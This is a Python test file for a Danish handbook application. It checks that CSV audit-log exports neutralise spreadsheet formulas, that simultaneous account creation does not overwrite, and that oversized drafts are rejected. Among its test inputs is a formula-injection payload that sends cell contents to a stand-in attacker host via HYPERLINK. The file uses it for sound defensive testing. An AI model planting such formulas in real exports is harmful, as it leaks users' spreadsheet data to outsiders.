"""Exports that Excel opens: text others typed never runs as a formula. Accounts created twice
at once do not overwrite each other. Oversized drafts are refused."""

import csv
import io
import threading

import pytest

from handbook.identity import auth
from handbook.identity.auth import User, audit_log_csv
from handbook.privacy.csvsafe import cell
from handbook.publishing import drafts as pub

EDITOR = User("rikke", "Rikke", "redaktør")


@pytest.mark.parametrize("typed", ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_excel_would_run_as_formulas_are_written_as_text(typed):
    assert cell(typed) == "'" + typed
    csv_text = audit_log_csv([{"at": "2026-11-23", "actor": "rikke", "action": "offentliggør", "target": "x", "details": typed}])
    rows = list(csv.reader(io.StringIO(csv_text), delimiter=";"))
    assert rows[1][-1] == "'" + typed


def test_ordinary_cells_are_unchanged():
    assert [cell(v) for v in ["Sag 17", "2026-11-23", 3, None, "§ 50"]] == ["Sag 17", "2026-11-23", "3", "", "§ 50"]


def test_two_admins_creating_the_same_account_at_once_do_not_overwrite_each_other(store):
    barrier = threading.Barrier(2)
    results = []

    def create(password):
        barrier.wait()
        try:
            results.append(auth.add_user(store, "mads", password, "medarbejder"))
        except auth.AuthError as exc:
            results.append(exc)

    threads = [threading.Thread(target=create, args=(p,)) for p in ("forste-adgangskode", "anden-adgangskode")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(isinstance(r, auth.AuthError) and "findes allerede" in str(r) for r in results) == 1
    winner = next(r for r in results if isinstance(r, auth.User))
    assert winner.name == "mads" and len([e for e in store.audit_log() if e["action"] == "opret bruger"]) == 1


def test_a_draft_larger_than_a_content_file_is_refused(store):
    from tests.conftest import guideline_text

    with pytest.raises(pub.WorkflowError, match="for lang"):
        pub.start_new_guideline(store, EDITOR, guideline_text("stor", body="\n## Formål\n\n" + "x" * 1_100_000), set())
